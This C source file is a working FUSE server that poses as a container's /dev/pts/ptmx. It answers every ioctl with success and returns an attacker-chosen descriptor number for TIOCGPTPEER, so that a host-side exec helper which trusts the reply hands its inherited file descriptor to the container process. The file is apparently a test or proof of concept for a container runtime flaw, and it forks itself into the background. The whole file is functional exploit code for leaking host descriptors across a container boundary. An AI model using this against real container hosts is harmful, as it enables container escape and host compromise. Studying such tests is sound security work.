/* A hostile container's /dev/pts: a FUSE file system whose "ptmx" answers every ioctl with success
 * and TIOCGPTPEER with the descriptor number FD, as a FUSE server may: an exec that trusted the answer
 * would hand that descriptor of the host-side helper (whatever the CLI inherited there) to the
 * container's process as its terminal. Usage: fake_ptmx MOUNTPOINT FD (it stays in the background). */
#include <errno.h>
#include <fcntl.h>
#include <linux/fuse.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/uio.h>
#include <unistd.h>

#define TIOCGPTPEER_ 0x5441

static int dev;

static void reply(uint64_t unique, int error, const void *data, size_t size) {
    struct fuse_out_header h = {.len = sizeof h + (error ? 0 : size), .error = error, .unique = unique};
    struct iovec v[2] = {{&h, sizeof h}, {(void *)data, error ? 0 : size}};
    writev(dev, v, 2);
}

static void attr(struct fuse_attr *a, uint64_t node) {
    memset(a, 0, sizeof *a);
    a->ino = node;
    a->mode = node == FUSE_ROOT_ID ? (S_IFDIR | 0755) : (S_IFREG | 0666);
    a->nlink = 1;
}

int main(int argc, char **argv) {
    if (argc != 3) return 2;
    int answer = atoi(argv[2]);
    dev = open("/dev/fuse", O_RDWR);
    if (dev < 0) { perror("/dev/fuse"); return 1; }
    char opts[128];
    snprintf(opts, sizeof opts, "fd=%d,rootmode=40755,user_id=0,group_id=0,allow_other", dev);
    if (mount("fake", argv[1], "fuse", MS_NOSUID, opts) < 0) { perror("mount"); return 1; }
    if (fork() > 0) return 0;
    setsid();
    int null = open("/dev/null", O_RDWR);
    dup2(null, 0), dup2(null, 1), dup2(null, 2);
    static char buf[1 << 20];
    for (;;) {
        ssize_t n = read(dev, buf, sizeof buf);
        if (n < 0) { if (errno == EINTR || errno == ENOENT) continue; return 0; }
        struct fuse_in_header *in = (struct fuse_in_header *)buf;
        void *arg = buf + sizeof *in;
        switch (in->opcode) {
        case FUSE_INIT: {
            struct fuse_init_out o = {.major = 7, .minor = 31, .max_write = 65536, .max_readahead = 65536};
            reply(in->unique, 0, &o, sizeof o);
            break;
        }
        case FUSE_LOOKUP: {
            if (strcmp((char *)arg, "ptmx")) { reply(in->unique, -ENOENT, 0, 0); break; }
            struct fuse_entry_out o = {.nodeid = 2, .generation = 1};
            attr(&o.attr, 2);
            reply(in->unique, 0, &o, sizeof o);
            break;
        }
        case FUSE_GETATTR: {
            struct fuse_attr_out o = {0};
            attr(&o.attr, in->nodeid);
            reply(in->unique, 0, &o, sizeof o);
            break;
        }
        case FUSE_OPEN: case FUSE_OPENDIR: {
            struct fuse_open_out o = {.open_flags = FOPEN_DIRECT_IO};
            reply(in->unique, 0, &o, sizeof o);
            break;
        }
        case FUSE_IOCTL: {
            struct fuse_ioctl_in *io = arg;
            struct fuse_ioctl_out o = {.result = 0};
            if (io->cmd == TIOCGPTPEER_)
                o.result = answer;
            reply(in->unique, 0, &o, sizeof o);
            break;
        }
        case FUSE_FORGET: case FUSE_BATCH_FORGET: case FUSE_INTERRUPT:
            break;
        case FUSE_RELEASE: case FUSE_RELEASEDIR: case FUSE_FLUSH:
            reply(in->unique, 0, 0, 0);
            break;
        case FUSE_DESTROY:
            return 0;
        default:
            reply(in->unique, -ENOSYS, 0, 0);
        }
    }
}
